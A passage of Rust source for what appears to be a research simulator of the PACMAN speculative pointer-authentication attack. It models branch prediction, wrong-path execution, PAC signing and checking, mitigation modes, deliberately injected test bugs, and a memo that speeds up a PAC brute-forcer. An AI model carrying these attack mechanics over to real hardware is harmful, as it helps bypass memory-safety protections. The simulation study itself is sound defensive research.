                let v = self.cpu.get(rn).wrapping_mul(self.cpu.get(rm));
                self.cpu.set(rd, v);
                self.cpu.pc = next;
            }
            Inst::CmpImm { rn, imm } => {
                self.cpu.cmp = (self.cpu.get(rn) as i64, i64::from(imm));
                self.cpu.pc = next;
            }
            Inst::CmpReg { rn, rm } => {
                self.cpu.cmp = (self.cpu.get(rn) as i64, self.cpu.get(rm) as i64);
                self.cpu.pc = next;
            }
            Inst::Ldr { rt, rn, offset } | Inst::Ldrb { rt, rn, offset } => {
                let va = self.cpu.get(rn).wrapping_add_signed(offset.into());
                let (outcome, pa) = self
                    .mem
                    .data_access(va, el, AccessKind::Load)
                    .map_err(|f| f.into_trap(va, el, AccessKind::Load))?;
                self.cycles += outcome.cycles;
                let v = if matches!(inst, Inst::Ldrb { .. }) {
                    u64::from(self.mem.phys.read_u8(pa))
                } else {
                    self.mem.phys.read_u64(pa)
                };
                self.cpu.set(rt, v);
                self.cpu.pc = next;
            }
            Inst::Str { rt, rn, offset } | Inst::Strb { rt, rn, offset } => {
                let va = self.cpu.get(rn).wrapping_add_signed(offset.into());
                let (outcome, pa) = self
                    .mem
                    .data_access(va, el, AccessKind::Store)
                    .map_err(|f| f.into_trap(va, el, AccessKind::Store))?;
                self.cycles += outcome.cycles;
                let v = self.cpu.get(rt);
                if matches!(inst, Inst::Strb { .. }) {
                    self.mem.phys.write_u8(pa, v as u8);
                } else {
                    self.mem.phys.write_u64(pa, v);
                }
                self.cpu.pc = next;
            }
            Inst::B { offset } => self.cpu.pc = pc.wrapping_add_signed(4 * i64::from(offset)),
            Inst::Bl { offset } => {
                self.cpu.set(Reg::LR, next);
                self.rsb.push(next);
                self.cpu.pc = pc.wrapping_add_signed(4 * i64::from(offset));
            }
            Inst::BCond { cond, offset } => {
                let taken = cond.holds(self.cpu.cmp.0, self.cpu.cmp.1);
                self.conditional_branch(pc, el, taken, offset);
            }
            Inst::Cbz { rt, offset } => {
                let taken = self.cpu.get(rt) == 0;
                self.conditional_branch(pc, el, taken, offset);
            }
            Inst::Cbnz { rt, offset } => {
                let taken = self.cpu.get(rt) != 0;
                self.conditional_branch(pc, el, taken, offset);
            }
            Inst::Tbz { rt, bit, offset } => {
                let taken = (self.cpu.get(rt) >> bit) & 1 == 0;
                self.conditional_branch(pc, el, taken, offset);
            }
            Inst::Tbnz { rt, bit, offset } => {
                let taken = (self.cpu.get(rt) >> bit) & 1 == 1;
                self.conditional_branch(pc, el, taken, offset);
            }
            Inst::Ldp { rt, rt2, rn, offset } => {
                let base = self.cpu.get(rn).wrapping_add_signed(offset.into());
                for (reg, addr) in [(rt, base), (rt2, base.wrapping_add(8))] {
                    let (outcome, pa) = self
                        .mem
                        .data_access(addr, el, AccessKind::Load)
                        .map_err(|f| f.into_trap(addr, el, AccessKind::Load))?;
                    self.cycles += outcome.cycles;
                    let v = self.mem.phys.read_u64(pa);
                    self.cpu.set(reg, v);
                }
                self.cpu.pc = next;
            }
            Inst::Stp { rt, rt2, rn, offset } => {
                let base = self.cpu.get(rn).wrapping_add_signed(offset.into());
                for (reg, addr) in [(rt, base), (rt2, base.wrapping_add(8))] {
                    let (outcome, pa) = self
                        .mem
                        .data_access(addr, el, AccessKind::Store)
                        .map_err(|f| f.into_trap(addr, el, AccessKind::Store))?;
                    self.cycles += outcome.cycles;
                    let v = self.cpu.get(reg);
                    self.mem.phys.write_u64(pa, v);
                }
                self.cpu.pc = next;
            }
            Inst::Br { rn } | Inst::Blr { rn } => {
                let target = self.cpu.get(rn);
                self.indirect_branch(pc, el, target);
                if matches!(inst, Inst::Blr { .. }) {
                    self.cpu.set(Reg::LR, next);
                    self.rsb.push(next);
                }
                self.cpu.pc = target;
            }
            Inst::Ret => {
                // Returns predict through the RSB first (ret2spec-style
                // behaviour); the BTB is the fallback for underflow.
                let target = self.cpu.get(Reg::LR);
                let from_rsb = self.rsb.pop();
                if from_rsb.is_some() {
                    self.predict_stats.rsb_hits += 1;
                } else {
                    self.predict_stats.rsb_underflows += 1;
                }
                let predicted = from_rsb.or_else(|| self.btb.predict(pc));
                self.btb.train(pc, target);
                if let Some(p) = predicted {
                    if p != target {
                        self.predict_stats.ret_mispredicts += 1;
                        self.cycles += self.config.latency.mispredict_penalty;
                        self.speculate(pc, p, el);
                    }
                }
                self.cpu.pc = target;
            }
            Inst::Pac { key, rd, modifier } => {
                let modifier = match modifier {
                    PacModifier::Reg(m) => self.cpu.get(m),
                    PacModifier::Zero => 0,
                };
                let signed = self.sign_pac(key, self.cpu.get(rd), modifier);
                self.cpu.set(rd, signed);
                self.cpu.pc = next;
            }
            Inst::Aut { key, rd, modifier } => {
                let modifier = match modifier {
                    PacModifier::Reg(m) => self.cpu.get(m),
                    PacModifier::Zero => 0,
                };
                let result = self.auth_pac(key, self.cpu.get(rd), modifier);
                self.cpu.set(rd, result.pointer());
                if self.config.mitigation == Mitigation::FenceAfterAut {
                    self.stats.fences_injected += 1;
                    self.cycles += self.config.latency.fence;
                }
                self.cpu.pc = next;
            }
            Inst::Xpac { rd, .. } => {
                let v = ptr::canonicalize(self.cpu.get(rd));
                self.cpu.set(rd, v);
                self.cpu.pc = next;
            }
            Inst::Pacga { rd, rn, rm } => {
                let tag = self.pacga_tag(self.cpu.get(rn), self.cpu.get(rm));
                self.cpu.set(rd, tag << 48);
                self.cpu.pc = next;
            }
            Inst::Mrs { rd, sysreg } => {
                let v =
                    self.read_sysreg(sysreg, el).ok_or(Trap::SysRegAccess { reg: sysreg, el })?;
                self.cpu.set(rd, v);
                self.cpu.pc = next;
            }
            Inst::Msr { sysreg, rn } => {
                let v = self.cpu.get(rn);
                if !self.write_sysreg(sysreg, v, el) {
                    return Err(Trap::SysRegAccess { reg: sysreg, el });
                }
                self.cpu.pc = next;
            }
        }
        Ok(None)
    }

    fn read_sysreg(&mut self, reg: SysReg, el: El) -> Option<u64> {
        let at_el0 = el == El::El0;
        if at_el0 && !reg.el0_readable(self.timers.pmc0_el0_enabled) {
            return None;
        }
        match reg {
            SysReg::CntpctEl0 => Some(self.timers.cntpct(self.cycles)),
            SysReg::CntfrqEl0 => Some(self.timers.cntfrq()),
            SysReg::Pmc0 => Some(self.timers.pmc0(self.cycles)),
            SysReg::Pmc1 => Some(self.stats.retired),
            SysReg::Pmcr0 => Some(u64::from(self.timers.pmc0_el0_enabled)),
            SysReg::CurrentEl => Some(match el {
                El::El0 => 0,
                El::El1 => 1 << 2,
            }),
            _ => self.cpu.keys.read_half(reg),
        }
    }

    fn write_sysreg(&mut self, reg: SysReg, value: u64, el: El) -> bool {
        if el == El::El0 {
            return false;
        }
        match reg {
            SysReg::Pmcr0 => {
                self.timers.pmc0_el0_enabled = value & 1 == 1;
                true
            }
            SysReg::CntpctEl0
            | SysReg::CntfrqEl0
            | SysReg::Pmc0
            | SysReg::Pmc1
            | SysReg::CurrentEl => false,
            _ => self.cpu.keys.write_half(reg, value),
        }
    }

    /// The memoised PAC of `(key value, pointer, modifier)`. The memo is
    /// sound because QARMA is a pure function of exactly this triple;
    /// keying on the key *value* (not the register name) means entries
    /// written under an old key can never be served after a key change.
    /// Under [`ExecEngine::Interpreted`] the memo is bypassed entirely so
    /// that engine stays a faithful pre-cache baseline.
    fn pac_of(&mut self, keyval: u128, pointer: u64, modifier: u64) -> u16 {
        if self.config.engine == ExecEngine::Interpreted {
            let pacs = PacComputer::new(QarmaKey::from_u128(keyval), VA_BITS);
            return pacs.pac(pointer, modifier) as u16;
        }
        let triple = (keyval, pointer, modifier);
        if let Some((last, pac)) = self.pac_last {
            if last == triple {
                self.pac_memo_hits += 1;
                return pac;
            }
        }
        if let Some(&pac) = self.pac_memo.get(&triple) {
            self.pac_memo_hits += 1;
            self.pac_last = Some((triple, pac));
            return pac;
        }
        self.pac_memo_misses += 1;
        let pacs = PacComputer::new(QarmaKey::from_u128(keyval), VA_BITS);
        let pac = pacs.pac(pointer, modifier) as u16;
        if self.pac_memo.len() >= PAC_MEMO_CAP {
            self.pac_memo.clear();
        }
        self.pac_memo.insert(triple, pac);
        self.pac_last = Some((triple, pac));
        pac
    }

    /// `PAC*`-family semantics via the memo; mirrors [`ptr::sign`].
    fn sign_pac(&mut self, key: PacKey, ptr_value: u64, modifier: u64) -> u64 {
        let canonical = ptr::canonicalize(ptr_value);
        let keyval = self.cpu.keys.get(key);
        let pac = self.pac_of(keyval, canonical, modifier);
        ptr::with_pac_field(canonical, pac)
    }

    /// `AUT*`-family semantics via the memo; mirrors [`ptr::authenticate`].
    fn auth_pac(&mut self, key: PacKey, ptr_value: u64, modifier: u64) -> AuthResult {
        let canonical = ptr::canonicalize(ptr_value);
        let keyval = self.cpu.keys.get(key);
        let expected = self.pac_of(keyval, canonical, modifier);
        if ptr::pac_field(ptr_value) == expected {
            AuthResult::Valid(canonical)
        } else {
            AuthResult::Corrupt(ptr::corrupt(canonical, key))
        }
    }

    /// `PACGA` tag via the memo (generic authentication signs raw
    /// register values, no canonicalisation).
    fn pacga_tag(&mut self, rn_val: u64, rm_val: u64) -> u64 {
        let keyval = self.cpu.keys.ga();
        u64::from(self.pac_of(keyval, rn_val, rm_val))
    }

    /// Precomputes the PACs of `pointers` under `key` and `modifier` into
    /// the memo using the bitsliced QARMA path (64 pointers per cipher
    /// pass). A no-op under [`ExecEngine::Interpreted`]. The §8.2
    /// brute-forcer warms the candidate set this way before replaying the
    /// PACMAN gadget, turning per-guess cipher work into a table lookup.
    pub fn warm_pac_memo(&mut self, key: PacKey, pointers: &[u64], modifier: u64) {
        if self.config.engine == ExecEngine::Interpreted {
            return;
        }
        let keyval = self.cpu.keys.get(key);
        let pacs = PacComputer::new(QarmaKey::from_u128(keyval), VA_BITS);
        let canonicals: Vec<u64> = pointers.iter().map(|&p| ptr::canonicalize(p)).collect();
        if self.pac_memo.len() + canonicals.len() > PAC_MEMO_CAP {
            self.pac_memo.clear();
        }
        for (canonical, pac) in canonicals.iter().zip(pacs.pac_many(&canonicals, modifier)) {
            self.pac_memo.insert((keyval, *canonical, modifier), pac as u16);
        }
    }

    /// Block-cache dispatch counters (all zero under
    /// [`ExecEngine::Interpreted`]).
    pub fn block_cache_stats(&self) -> crate::block_cache::BlockCacheStats {
        self.block_cache.stats
    }

    /// Background kernel activity occasionally perturbing a random dTLB
    /// set (paper §8.2 evaluates under web-browsing/video-call noise).
    fn os_noise_tick(&mut self) {
        if self.config.os_noise > 0.0 && self.rng.gen_bool(self.config.os_noise) {
            let vpn = 0x2_0000_0000u64 >> 14 | self.rng.gen_range(0..4096u64);
            self.mem.tlbs.fill_data(crate::tlb::TlbEntry {
                vpn,
                pfn: 0,
                perms: Perms::kernel_rw(),
            });
        }
    }

    fn conditional_branch(&mut self, pc: u64, el: El, taken: bool, offset: i32) {
        let predicted = self.bimodal.predict(pc);
        self.bimodal.train(pc, taken);
        let target = pc.wrapping_add_signed(4 * i64::from(offset));
        let fallthrough = pc.wrapping_add(4);
        if predicted != taken {
            self.predict_stats.bimodal_mispredicts += 1;
            self.cycles += self.config.latency.mispredict_penalty;
            let wrong_path = if predicted { target } else { fallthrough };
            self.speculate(pc, wrong_path, el);
        } else {
            self.predict_stats.bimodal_correct += 1;
        }
        self.cpu.pc = if taken { target } else { fallthrough };
    }

    fn indirect_branch(&mut self, pc: u64, el: El, target: u64) {
        let predicted = self.btb.predict(pc);
        self.btb.train(pc, target);
        if let Some(p) = predicted {
            self.predict_stats.btb_hits += 1;
            if p != target {
                self.predict_stats.btb_mispredicts += 1;
                self.cycles += self.config.latency.mispredict_penalty;
                self.speculate(pc, p, el);
            }
        } else {
            self.predict_stats.btb_misses += 1;
        }
    }

    /// Executes the wrong path under the shadow of a mispredicted branch:
    /// microarchitectural effects only, faults suppressed, bounded by the
    /// speculation window.
    fn speculate(&mut self, branch_pc: u64, start_pc: u64, el: El) {
        self.stats.spec_episodes += 1;
        self.trace.record(SpecEvent::ShadowOpened { branch_pc, wrong_path_pc: start_pc });
        let mit = self.config.mitigation;
        let mut shadow = Shadow::from_cpu(&self.cpu);
        let mut pc = start_pc;
        let mut executed: u32 = 0;
        for _ in 0..self.config.speculation_window {
            let pa = match self.mem.spec_fetch(pc, el, Mitigation::None) {
                SpecAccess::Ok(outcome, pa) => {
                    self.cycles += outcome.cycles / 4; // overlapped wrong-path work
                    pa
                }
                SpecAccess::Fault => {
                    self.suppress_spec_fault(pc, el, AccessKind::Fetch);
                    self.trace.record(SpecEvent::FaultSuppressed { pc, va: pc });
                    break;
                }
                SpecAccess::Blocked => break,
            };
            let decoded = match self.config.engine {
                ExecEngine::Cached => self.block_cache.fetch(pa, &mut self.mem.phys),
                ExecEngine::Interpreted => decode(self.mem.phys.read_u32(pa)).ok(),
            };
            let Some(inst) = decoded else {
                break;
            };
            self.stats.spec_insts += 1;
            executed += 1;
            if !self.spec_exec(&mut shadow, &mut pc, el, inst, mit) {
                break;
            }
        }
        if self.config.bugs.leak_squashed_registers {
            // Injected bug (conformance self-test only): the squash
            // "forgets" to restore the register file, so wrong-path
            // results leak into committed state.
            self.cpu.regs = shadow.regs;
            self.cpu.sp[self.cpu.el as usize] = shadow.sp;
            self.cpu.cmp = shadow.cmp;
        }
        self.close_shadow(executed);
    }

    /// Suppresses a wrong-path fault: counted, and — under the
    /// `commit_suppressed_faults` injected bug — latched for precise
    /// architectural delivery at the next retire boundary.
    fn suppress_spec_fault(&mut self, va: u64, el: El, access: AccessKind) {
        self.stats.spec_faults_suppressed += 1;
        if self.config.bugs.commit_suppressed_faults && self.pending_spec_fault.is_none() {
            self.pending_spec_fault = Some(Trap::TranslationFault { va, el, access });
        }
    }

    /// Ends a speculation shadow: records the squash in the trace and the
    /// wrong-path depth in the episode histogram.
    fn close_shadow(&mut self, executed: u32) {
        self.spec_depth.observe(u64::from(executed));
        self.trace.record(SpecEvent::ShadowClosed { instructions: executed });
    }

    /// Executes one wrong-path instruction. Returns false when the shadow
    /// ends (fault, serialisation, window-irrelevant instruction).
    fn spec_exec(
        &mut self,
        shadow: &mut Shadow,
        pc: &mut u64,
        el: El,
        inst: Inst,
        mit: Mitigation,
    ) -> bool {
        let next = pc.wrapping_add(4);
        match inst {
            Inst::Nop => *pc = next,
            // Serialising or privilege-transferring instructions end
            // speculation.
            Inst::Isb
            | Inst::Dsb
            | Inst::Hlt
            | Inst::Svc { .. }
            | Inst::Eret
            | Inst::Msr { .. } => return false,
            Inst::MovZ { rd, imm, shift } => {
                shadow.set(rd, u64::from(imm) << (16 * u32::from(shift)));
                shadow.set_taint(rd, false);
                *pc = next;
            }
            Inst::MovK { rd, imm, shift } => {
                let sh = 16 * u32::from(shift);
                let old = shadow.get(rd);
                shadow.set(rd, (old & !(0xFFFFu64 << sh)) | (u64::from(imm) << sh));
                *pc = next;
            }
            Inst::MovN { rd, imm, shift } => {
                shadow.set(rd, !(u64::from(imm) << (16 * u32::from(shift))));
                shadow.set_taint(rd, false);
                *pc = next;
            }
            Inst::MovReg { rd, rn } => {
                let (v, t) = (shadow.get(rn), shadow.tainted(rn));
                shadow.set(rd, v);
                shadow.set_taint(rd, t);
                *pc = next;
            }
            Inst::Csel { rd, rn, rm, cond } => {
                let taken = cond.holds(shadow.cmp.0, shadow.cmp.1);
                let src = if taken { rn } else { rm };
                let (v, t) = (shadow.get(src), shadow.tainted(src));
                shadow.set(rd, v);
                shadow.set_taint(rd, t);
                *pc = next;
            }
            Inst::AddImm { rd, rn, imm } => {
                let (v, t) = (shadow.get(rn).wrapping_add(u64::from(imm)), shadow.tainted(rn));
                shadow.set(rd, v);
                shadow.set_taint(rd, t);
                *pc = next;
            }
            Inst::SubImm { rd, rn, imm } => {
                let (v, t) = (shadow.get(rn).wrapping_sub(u64::from(imm)), shadow.tainted(rn));
                shadow.set(rd, v);
                shadow.set_taint(rd, t);
                *pc = next;
            }
            Inst::AddReg { rd, rn, rm }
            | Inst::SubReg { rd, rn, rm }
            | Inst::AndReg { rd, rn, rm }
            | Inst::OrrReg { rd, rn, rm }
            | Inst::EorReg { rd, rn, rm }
            | Inst::Mul { rd, rn, rm } => {
                let (a, b) = (shadow.get(rn), shadow.get(rm));
                let v = match inst {
                    Inst::AddReg { .. } => a.wrapping_add(b),
                    Inst::SubReg { .. } => a.wrapping_sub(b),
                    Inst::AndReg { .. } => a & b,
                    Inst::OrrReg { .. } => a | b,
                    Inst::EorReg { .. } => a ^ b,
                    _ => a.wrapping_mul(b),
                };
                shadow.set(rd, v);
                shadow.set_taint(rd, shadow.tainted(rn) || shadow.tainted(rm));
                *pc = next;
            }
            Inst::LslImm { rd, rn, shift } => {
                let (v, t) = (shadow.get(rn) << shift, shadow.tainted(rn));
                shadow.set(rd, v);
                shadow.set_taint(rd, t);
                *pc = next;
            }
            Inst::LsrImm { rd, rn, shift } => {
                let (v, t) = (shadow.get(rn) >> shift, shadow.tainted(rn));
                shadow.set(rd, v);
                shadow.set_taint(rd, t);
                *pc = next;
            }
            Inst::CmpImm { rn, imm } => {
                shadow.cmp = (shadow.get(rn) as i64, i64::from(imm));
                *pc = next;
            }
            Inst::CmpReg { rn, rm } => {
                shadow.cmp = (shadow.get(rn) as i64, shadow.get(rm) as i64);
                *pc = next;
            }
            Inst::Ldr { rt, rn, offset } | Inst::Ldrb { rt, rn, offset } => {
                if mit == Mitigation::TaintAutOutputs && shadow.tainted(rn) {
                    self.stats.taint_blocked += 1;
                    self.trace
                        .record(SpecEvent::MitigationBlocked { pc: *pc, what: "taint tracking" });
                    shadow.set(rt, 0);
                    shadow.set_taint(rt, true);
                    *pc = next;
                    return true;
                }
                let va = shadow.get(rn).wrapping_add_signed(offset.into());
                match self.mem.spec_data_access(va, el, AccessKind::Load, mit) {
                    SpecAccess::Ok(outcome, pa) => {
                        self.cycles += outcome.cycles / 4;
                        self.trace.record(SpecEvent::SpecAccessIssued { pc: *pc, va });
                        let v = if matches!(inst, Inst::Ldrb { .. }) {
                            u64::from(self.mem.phys.read_u8(pa))
                        } else {
                            self.mem.phys.read_u64(pa)
                        };
                        shadow.set(rt, v);
                        shadow.set_taint(rt, false);
                        *pc = next;
                    }
                    SpecAccess::Fault => {
                        self.suppress_spec_fault(va, el, AccessKind::Load);
                        self.trace.record(SpecEvent::FaultSuppressed { pc: *pc, va });
                        return false;
                    }
                    SpecAccess::Blocked => {
                        self.stats.delay_blocked += 1;
                        self.trace.record(SpecEvent::MitigationBlocked {
                            pc: *pc,
                            what: "delay-on-miss",
                        });
                        return false;
                    }
                }
            }
            Inst::Str { rn, .. } | Inst::Strb { rn, .. } => {
                // Speculative stores translate (filling TLBs — a valid
                // transmit channel, §4.1) but never write memory.
                if mit == Mitigation::TaintAutOutputs && shadow.tainted(rn) {
                    self.stats.taint_blocked += 1;
                    self.trace
                        .record(SpecEvent::MitigationBlocked { pc: *pc, what: "taint tracking" });
                    *pc = next;
                    return true;
                }
                let va = shadow.get(rn);
                match self.mem.spec_data_access(va, el, AccessKind::Store, mit) {
                    SpecAccess::Ok(outcome, _) => {
                        self.cycles += outcome.cycles / 4;
                        self.trace.record(SpecEvent::SpecAccessIssued { pc: *pc, va });
                        *pc = next;
                    }
                    SpecAccess::Fault => {
                        self.suppress_spec_fault(va, el, AccessKind::Store);
                        self.trace.record(SpecEvent::FaultSuppressed { pc: *pc, va });
                        return false;
                    }
                    SpecAccess::Blocked => {
                        self.stats.delay_blocked += 1;
                        self.trace.record(SpecEvent::MitigationBlocked {
                            pc: *pc,
                            what: "delay-on-miss",
                        });
                        return false;
                    }
                }
            }
            Inst::B { offset } => *pc = pc.wrapping_add_signed(4 * i64::from(offset)),
            Inst::Bl { offset } => {
                shadow.set(Reg::LR, next);
                *pc = pc.wrapping_add_signed(4 * i64::from(offset));
            }
            Inst::BCond { cond: _, offset } => {
                // Inside the shadow, nested conditional branches follow the
                // predictor (no training on wrong paths).
                let taken = self.bimodal.predict(*pc);
                *pc = if taken { pc.wrapping_add_signed(4 * i64::from(offset)) } else { next };
            }
            Inst::Cbz { offset, .. }
            | Inst::Cbnz { offset, .. }
            | Inst::Tbz { offset, .. }
            | Inst::Tbnz { offset, .. } => {
                let taken = self.bimodal.predict(*pc);
                *pc = if taken { pc.wrapping_add_signed(4 * i64::from(offset)) } else { next };
            }
            Inst::Ldp { rt, rt2, rn, offset } => {
                // Pair loads behave like two loads for the transmit
                // channel; the first fault/block ends the shadow.
                if mit == Mitigation::TaintAutOutputs && shadow.tainted(rn) {
                    self.stats.taint_blocked += 1;
                    shadow.set(rt, 0);
                    shadow.set(rt2, 0);
                    shadow.set_taint(rt, true);
                    shadow.set_taint(rt2, true);
                    *pc = next;
                    return true;
                }
                let base = shadow.get(rn).wrapping_add_signed(offset.into());
                for (reg, addr) in [(rt, base), (rt2, base.wrapping_add(8))] {
                    match self.mem.spec_data_access(addr, el, AccessKind::Load, mit) {
                        SpecAccess::Ok(outcome, pa) => {
                            self.cycles += outcome.cycles / 4;
                            let v = self.mem.phys.read_u64(pa);
                            shadow.set(reg, v);
                            shadow.set_taint(reg, false);
                        }
                        SpecAccess::Fault => {
                            self.suppress_spec_fault(addr, el, AccessKind::Load);
                            return false;
                        }
                        SpecAccess::Blocked => {
                            self.stats.delay_blocked += 1;
                            return false;
                        }
                    }
                }
                *pc = next;
            }
            Inst::Stp { rn, .. } => {
                if mit == Mitigation::TaintAutOutputs && shadow.tainted(rn) {
                    self.stats.taint_blocked += 1;
                    *pc = next;
                    return true;
                }
                let base = shadow.get(rn);
                match self.mem.spec_data_access(base, el, AccessKind::Store, mit) {
                    SpecAccess::Ok(outcome, _) => {
                        self.cycles += outcome.cycles / 4;
                        *pc = next;
                    }
                    SpecAccess::Fault => {
                        self.suppress_spec_fault(base, el, AccessKind::Store);
                        return false;
                    }
                    SpecAccess::Blocked => {
                        self.stats.delay_blocked += 1;
                        return false;
                    }
                }
            }
            Inst::Br { .. } | Inst::Blr { .. } | Inst::Ret => {
                let rn = match inst {
                    Inst::Br { rn } | Inst::Blr { rn } => rn,
                    _ => Reg::LR,
                };
                if mit == Mitigation::TaintAutOutputs && shadow.tainted(rn) {
                    self.stats.taint_blocked += 1;
                    self.trace
                        .record(SpecEvent::MitigationBlocked { pc: *pc, what: "taint tracking" });
                    return false;
                }
                let actual = shadow.get(rn);
                // t2 of Figure 3(d): fetch proceeds from the BTB-predicted
                // target while the address operand resolves.
                if let Some(predicted) = self.btb.predict(*pc) {
                    let _ = self.mem.spec_fetch(predicted, el, mit);
                    self.trace.record(SpecEvent::BtbPredictedFetch { pc: *pc, predicted });
                    if self.config.squash == SquashPolicy::Lazy {
                        // No eager squash: the resolved target is never
                        // fetched; speculation continues down the
                        // predicted path (§4.2's failure mode).
                        *pc = predicted;
                        return true;
                    }
                } else if self.config.squash == SquashPolicy::Lazy {
                    return false;
                }
                // t3/t4: eager squash of the inner branch, redirect fetch
                // to the resolved target.
                self.stats.eager_squashes += 1;
                match self.mem.spec_fetch(actual, el, mit) {
                    SpecAccess::Ok(outcome, _) => {
                        self.cycles += outcome.cycles / 4;
                        self.trace.record(SpecEvent::EagerSquashRedirect { pc: *pc, actual });
                        if matches!(inst, Inst::Blr { .. }) {
                            shadow.set(Reg::LR, next);
                        }
                        *pc = actual;
                    }
                    SpecAccess::Fault => {
                        self.suppress_spec_fault(actual, el, AccessKind::Fetch);
                        self.trace.record(SpecEvent::FaultSuppressed { pc: *pc, va: actual });
                        return false;
                    }
                    SpecAccess::Blocked => {
                        self.stats.delay_blocked += 1;
                        self.trace.record(SpecEvent::MitigationBlocked {
                            pc: *pc,
                            what: "delay-on-miss",
                        });
                        return false;
                    }
                }
            }
            Inst::Pac { key, rd, modifier } => {
                let modifier = match modifier {
                    PacModifier::Reg(m) => shadow.get(m),
                    PacModifier::Zero => 0,
                };
                let v = self.sign_pac(key, shadow.get(rd), modifier);
                shadow.set(rd, v);
                *pc = next;
            }
            Inst::Aut { key, rd, modifier } => {
                match mit {
                    Mitigation::NonSpeculativeAut => {
                        // The AUT stalls until the shadow resolves; nothing
                        // downstream of it executes speculatively.
                        self.trace.record(SpecEvent::MitigationBlocked {
                            pc: *pc,
                            what: "non-speculative AUT",
                        });
                        return false;
                    }
                    _ => {
                        let modifier = match modifier {
                            PacModifier::Reg(m) => shadow.get(m),
                            PacModifier::Zero => 0,
                        };
                        let result = self.auth_pac(key, shadow.get(rd), modifier);
                        self.trace.record(SpecEvent::AutExecuted {
                            pc: *pc,
                            valid: result.is_valid(),
                            result: result.pointer(),
                        });
                        shadow.set(rd, result.pointer());
                        if mit == Mitigation::TaintAutOutputs {
                            shadow.set_taint(rd, true);
                        }
                        if mit == Mitigation::FenceAfterAut {
                            // The implicit fence stops speculation before
                            // the verified pointer can be transmitted.
                            self.stats.fences_injected += 1;
                            self.trace.record(SpecEvent::MitigationBlocked {
                                pc: *pc,
                                what: "fence after AUT",
                            });
                            return false;
                        }
                        *pc = next;
                    }
                }
            }
            Inst::Xpac { rd, .. } => {
                let v = ptr::canonicalize(shadow.get(rd));
                shadow.set(rd, v);
                *pc = next;
            }
            Inst::Pacga { rd, rn, rm } => {
                let tag = self.pacga_tag(shadow.get(rn), shadow.get(rm));
                shadow.set(rd, tag << 48);
                *pc = next;
            }
            Inst::Mrs { rd, sysreg } => match self.read_sysreg(sysreg, el) {
                Some(v) => {
                    shadow.set(rd, v);
                    *pc = next;
                }
                None => return false,
            },
        }
        true
    }
}

fn source_reg(source: TimingSource) -> SysReg {
    match source {
        TimingSource::Pmc0 => SysReg::Pmc0,
        TimingSource::MultiThread => SysReg::CntpctEl0, // no MSR involved; closest stand-in
        TimingSource::SystemCounter => SysReg::CntpctEl0,
    }
}

#[cfg(test)]
mod tests {
    use super::*;
    use pacman_isa::{Asm, PacKey};

    const USER_CODE: u64 = 0x0000_0000_0040_0000;
    const USER_DATA: u64 = 0x0000_0000_1000_0000;

    fn machine() -> Machine {
        Machine::new(MachineConfig { os_noise: 0.0, ..MachineConfig::default() })
    }

    fn run_user(m: &mut Machine, program: &[Inst]) {
        m.map_region(USER_CODE, 4 * program.len() as u64, Perms::user_rwx());
        m.load_program(USER_CODE, program);
        m.cpu.pc = USER_CODE;
        m.cpu.el = El::El0;
        m.run(100_000).expect("program must not trap");
    }

    #[test]
    fn profiler_attributes_retired_work_when_enabled() {
        let mut m = Machine::new(MachineConfig {
            os_noise: 0.0,
            profile: true,
            ..MachineConfig::default()
        });
        m.map_page(USER_DATA, Perms::user_rw());
        let mut a = Asm::new();
        let top = a.new_label();
        a.mov_imm64(Reg::X0, 8);
        a.mov_imm64(Reg::X1, USER_DATA);
        a.bind(top);
        a.push(Inst::Ldr { rt: Reg::X2, rn: Reg::X1, offset: 0 });
        a.push(Inst::SubImm { rd: Reg::X0, rn: Reg::X0, imm: 1 });
        a.cbnz(Reg::X0, top);
        a.push(Inst::Hlt);
        let program = a.assemble().unwrap();
        run_user(&mut m, &program);

        let prof = &m.profiler;
        assert_eq!(prof.opcodes()["ldr"].retired, 8);
        assert_eq!(prof.opcodes()["sub_imm"].retired, 8);
        assert!(prof.phase(crate::profiler::Phase::Memory).cycles > 0);
        assert!(prof.phase(crate::profiler::Phase::Decode).events > 0);
        // The loop body re-enters its block once per iteration.
        let loop_block = prof.blocks().values().map(|b| b.entries).max().expect("blocks recorded");
        assert!(loop_block >= 7, "loop entries recorded: {loop_block}");

        let mut reg = Registry::new();
        m.export_telemetry(&mut reg);
        assert_eq!(reg.counter_value("profile.opcode.ldr.retired"), 8);
        assert!(reg.counter_value("profile.phase.dispatch.cycles") > 0);

        // Same program with the profiler off: identical architectural
        // outcome, no profile.* series at all.
        let mut off = machine();
        off.map_page(USER_DATA, Perms::user_rw());
        run_user(&mut off, &program);
        assert!(off.profiler.is_empty());
        let mut reg_off = Registry::new();
        off.export_telemetry(&mut reg_off);
        assert!(!reg_off.snapshot().counters.keys().any(|k| k.starts_with("profile.")));
        assert_eq!(off.cycles, m.cycles, "profiling must not change simulated time");
    }

    #[test]
    fn save_restore_mid_program_continues_bit_identically() {
        // Run a PAC-heavy syscall-free loop partway, snapshot, and let
        // both the original and a restored fresh boot finish: every
        // architectural register, the cycle count, and the full
        // telemetry export must agree.
        let mut m = machine();
        m.map_page(USER_DATA, Perms::user_rw());
        let mut a = Asm::new();
        let top = a.new_label();
        a.mov_imm64(Reg::X0, 12);
        a.mov_imm64(Reg::X1, USER_DATA);
        a.mov_imm64(Reg::X9, 0x0000_0000_4567_0000);
        a.bind(top);
        a.push(Inst::Pac { key: PacKey::Ia, rd: Reg::X9, modifier: pacman_isa::PacModifier::Zero });
        a.push(Inst::Xpac { rd: Reg::X9, data: false });
        a.push(Inst::Ldr { rt: Reg::X2, rn: Reg::X1, offset: 0 });
        a.push(Inst::Str { rt: Reg::X0, rn: Reg::X1, offset: 8 });
        a.push(Inst::SubImm { rd: Reg::X0, rn: Reg::X0, imm: 1 });
        a.cbnz(Reg::X0, top);
        a.push(Inst::Hlt);
        let program = a.assemble().unwrap();
        m.map_region(USER_CODE, 4 * program.len() as u64, Perms::user_rwx());
        m.load_program(USER_CODE, &program);
        m.cpu.pc = USER_CODE;
        m.cpu.el = El::El0;
        for _ in 0..20 {
            m.step().expect("no trap");
        }
        let mut w = pacman_telemetry::bin::Writer::new();
        m.save_state(&mut w);
        let bytes = w.into_bytes();

        let mut restored = machine();
        let mut r = pacman_telemetry::bin::Reader::new(&bytes);
        restored.restore_state(&mut r).unwrap();
        assert!(r.is_done(), "snapshot fully consumed");
        assert_eq!(restored.cycles, m.cycles);
        assert_eq!(restored.cpu.pc, m.cpu.pc);

        m.run(100_000).expect("original finishes");
        restored.run(100_000).expect("restored finishes");
        assert_eq!(restored.cpu.regs, m.cpu.regs);
        assert_eq!(restored.cycles, m.cycles);
